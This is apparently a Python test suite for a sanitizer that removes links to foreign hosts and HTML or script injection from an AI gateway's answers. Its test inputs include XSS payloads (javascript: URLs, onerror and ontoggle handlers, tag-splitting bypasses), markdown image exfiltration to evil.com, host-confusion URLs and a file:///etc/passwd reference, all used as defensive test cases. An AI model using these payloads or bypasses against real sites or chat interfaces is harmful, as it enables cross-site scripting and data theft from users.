"""Links in answers."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.stages.guard.links import REMOVED, LinkRules, clean, without_foreign_links
from gateway.stages.guard.units import Units

RULES = LinkRules(frozenset({"docs.example.org", "*.trusted.example"}))

FOREIGN = [
    "See [the manual](https://evil.com/x?q=1).",
    'See [the manual]( <https://evil.com/a b> "title" ).',
    "![pixel](https://evil.com/p.png?d=secret)",
    "[![badge](https://evil.com/b.svg)](https://evil.com/x)",
    "See [the manual][m].\n\n[m]: https://evil.com/x 'The manual'",
    "See [m].\n\n[m]:\n  <https://evil.com/x>",
    "See <https://evil.com/x>.",
    "Write to <thief@evil.com>.",
    "Go to https://evil.com/x, now.",
    "Go to HTTPS://EVIL.com/x now.",
    "Go to www.evil.com now.",
    "Go to evil.com/path now.",
    "Download it from freegame.com.",
    "Go to //evil.com/x now.",
    "[a](//evil.com/x)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&#58;alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "data:text/html,<script>alert(1)</script>",
    "javascript:alert(document.cookie)",
    "mailto:thief@evil.com?body=secret",
    "ftp://evil.com/x",
    '<a href="https://evil.com/x">here</a>',
    "<img src=https://evil.com/p.png onerror=alert(1)",
    "<IMG\nSRC='https://evil.com/p.png'>",
    "<svg><use href='https://evil.com/s.svg#x'/></svg>",
    "<form action=https://evil.com/x><button>ok</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.com/'>",
    "<b style='background:url(https://evil.com/p)'>x</b>",
    "<!-- https://evil.com/x -->",
    "https://docs.example.org@evil.com/x",
    "https://docs.example.org\\@evil.com/x",
    "[a](https://docs.example.org.evil.com/x)",
    "label that was told before](https://evil.com/x)",
]
ACTIVE = re.compile(
    r"https?:|www\.|//\w|javascript|data:|mailto:|ftp:|evil\.com|freegame\.com|<\s*[a-z!]|\]\(|\]:", re.IGNORECASE
)


@pytest.mark.parametrize("text", FOREIGN)
def test_no_syntax_links_to_a_foreign_host(text: str) -> None:
    shown, removed = without_foreign_links(text, RULES)

    assert removed >= 1
    assert ACTIVE.search(shown) is None


@pytest.mark.parametrize("text", FOREIGN)
def test_what_was_made_plain_stays_as_it_is(text: str) -> None:
    shown, _ = without_foreign_links(text, RULES)

    assert without_foreign_links(shown, RULES) == (shown, 0)


@pytest.mark.parametrize(
    "text",
    [
        "See [the manual](https://docs.example.org/x#y) [1].",
        "See https://docs.example.org/x, and https://api.trusted.example/v2.",
        "See <https://docs.example.org/>.",
        "See [m].\n\n[m]: https://docs.example.org/x",
        "Set max_size in config.yaml to 4:3, see main.py and ASP.NET [2][3].",
        "A list of 3 < 4 <= 5 and x < y, a <- b, e.g. i.e. at 10:30 or 1.2.3.",
        "Call f(a)[1] and g[0].h(2), write to help@tarnwell.com [1].",
        "std::vector, key: value, note: this",
    ],
)
def test_allowed_links_and_ordinary_text_are_kept_to_the_letter(text: str) -> None:
    assert without_foreign_links(text, RULES) == (text, 0)


def test_an_address_stays_readable_without_being_a_link() -> None:
    shown, _ = without_foreign_links("The base address is https://api.tarnwell.example/v2. [1]", LinkRules(frozenset()))

    assert shown == "The base address is api[.]tarnwell[.]example/v2. [1]"


def test_a_star_allows_every_host_but_no_script() -> None:
    rules = LinkRules(frozenset({"*"}))

    assert without_foreign_links("https://any.example/x", rules)[1] == 0
    assert without_foreign_links("[a](javascript:alert(1))", rules)[1] == 1


@given(st.text(alphabet="ab.:/[]()<>!@ \n\\\"'=&#;wW", max_size=120))
def test_any_text_is_read_without_failing(text: str) -> None:
    shown, _ = without_foreign_links(text, RULES)

    assert not re.search(r"<a[\s/>][^<>]*>|<a>", shown, re.IGNORECASE)
    assert without_foreign_links(shown, RULES) == (shown, 0)


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("If the pressure is <a threshold, close the valve. Then call support. [1]", 0),
        ("for (i = 0; i < n ; i++) { data = x[i]; } Then stop. [1]", 0),
        ("a <!-- b and the rest. [1]", 0),
        ("Usage: cp <source> <target> [1]", 0),
        ("A List<String> holds `<form>`. [1]", 0),
    ],
)
def test_no_prose_or_code_is_lost_to_what_could_begin_a_tag(text: str, kept: int) -> None:
    shown, removed = without_foreign_links(text, RULES)

    assert shown.replace("‹", "<") == text
    assert removed == kept
    assert not re.search(r"<[a-zA-Z/!?]", shown)


@pytest.mark.parametrize(
    "text",
    [
        "<im[](x)g src=x onerror=alert(1)>",
        "<im![](/x)g src=/x onerror=alert(1)>",
        "<scr[](x)ipt>alert(1)</script>",
        "<de[](x)tails open ontoggle=alert(1)>",
        "<scr<https:x>ipt>",
        "<[a. b](x)script>",
        "<[](x)script>",
        "<details/open/ontoggle=alert(1)>",
        "<p/style=background:url(x)>",
        '<p title=">" onclick=alert(1)>hi</p>',
        '<div title="<" onmouseover=alert(1)>x',
        "<https://docs.example.org/onmouseover=alert(1)>",
        "<?php x ?>",
        "<!doctype html>",
    ],
)
def test_no_tag_is_left_or_built_from_what_is_left(text: str) -> None:
    shown, _ = without_foreign_links(text, RULES)

    assert not re.search(r"<[a-zA-Z/!?]", shown)
    assert without_foreign_links(shown, RULES) == (shown, 0)


@pytest.mark.parametrize(
    "text",
    [
        "jav[](x)ascript:alert(1)",
        "ht[](x)tps://evil.com",
        "[x](java[](y)script:alert(1))",
        "[" * 40 + "a" + "](x)" * 40,
        "[a](\n/logout)\n",
        "![a\nb](\n/steal)\n",
        "- [a]: /logout\n",
        "[a\nb]: /logout\n\n![x][a b]",
        "[a\nb. c]: /logout\n\n![x][a b. c]",
        "[ref]:\n/logout\n",
        "https:&#47;&#47;evil.com/x?d=1",
        "&#104;ttps&colon;//evil.com/x",
    ],
)
def test_no_link_is_built_from_what_is_left(text: str) -> None:
    shown, _ = without_foreign_links(text, RULES)

    assert not re.search(r"https?:|://|evil\.com|javascript:|\]\(|\]:", shown)
    assert without_foreign_links(shown, RULES) == (shown, 0)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Set it to postgres://db:5432/app.", "Set it to postgres[:]//db:5432/app."),
        ("s3://bucket/key and redis://db.evil.com:1", "s3[:]//bucket/key and redis[:]//db[.]evil[.]com:1"),
        ("docker run -v data:/var/lib/db x", None),
        ("git clone --filter=blob:none repo", None),
        ("error at file:12", None),
        ("error in main.py:12 and app.json:3, see guide.md#usage", None),
        ("Unpack firmware.zip and play intro.mov using java.io and System.IO", None),
        ("What is main.py? Is it foo.bar? See a.b: c.", None),
        ("data:text/html;base64,AAA", REMOVED),
        ("file:///etc/passwd", REMOVED),
        ("blob:https://evil.com/1", REMOVED),
        ("vbscript:x", REMOVED),
        ("evil.de/x?d=secret", "evil[.]de/x?d=secret"),
        ("evil.co.uk/x", "evil[.]co[.]uk/x"),
        ("evil.guru?d=secret", "evil[.]guru?d=secret"),
        ("évil.рф:8080", "évil[.]рф:8080"),
        ("firmware.zip/x", "firmware[.]zip/x"),
        ("x.evil.com/a/b.evil.de/c", "x[.]evil[.]com/a/b[.]evil[.]de/c"),
        ("[1](https://evil.com/x)", "[1]"),
        ("[Note]: The valve must be closed. [1]", None),
        ("[ERROR]: connection lost to broker [1]", None),
        ("The steps are [1]:\n1. Close it.", None),
        ("[m]: /logout", "[m] : /logout"),
        ("[m]: /logout 'title'\nx", "[m] : /logout 'title'\nx"),
    ],
)
def test_what_is_no_link_stays_readable(text: str, expected: str | None) -> None:
    shown, removed = without_foreign_links(text, RULES)

    assert shown == (text if expected is None else expected)
    assert (removed > 0) == (expected is not None)


@pytest.mark.parametrize("hole", ["[a](" + " " * 6000, "[a]:" + " " * 12000, "](" * 4000, "&#4" * 4000, "a." * 8000])
def test_no_text_takes_long(hole: str) -> None:
    started = time.thread_time()

    without_foreign_links(hole, RULES)

    assert time.thread_time() - started < 0.5


@given(
    st.lists(
        st.sampled_from(
            re.findall(
                r"\S+| \n?",
                '[ ] ( ) ]( ]: [a] [1] < > ! . \n a https:// evil.de /x &#47; javascript: { } " www. @ : \\ [a](x)',
            )
        ),
        max_size=40,
    ).map("".join),
    st.integers(1, 7),
)
def test_a_text_told_in_pieces_is_the_whole_text_and_stays_as_it_is(text: str, size: int) -> None:
    units = Units()
    told = [unit for at in range(0, len(text), size) for unit in units.feed(text[at : at + size])] + units.rest()

    shown = "".join(clean(unit, RULES)[0] for unit in told)

    assert "".join(unit.text for unit in told) == text
    assert shown == without_foreign_links(text, RULES)[0]
    assert not re.search(r"<[a-zA-Z/!?]", shown)
    again, _ = without_foreign_links(shown, RULES)
    assert again == shown


@pytest.mark.parametrize(
    "text", ["<scr<script>ipt>", "<<a >a href=x>", "<<!-- -->a href='//e'>", "<" * 500 + "a >" * 500]
)
def test_what_is_left_of_a_tag_is_none(text: str) -> None:
    shown, _ = without_foreign_links(text, RULES)

    assert not re.search(r"<(?:a|script)[\s/>]", shown)
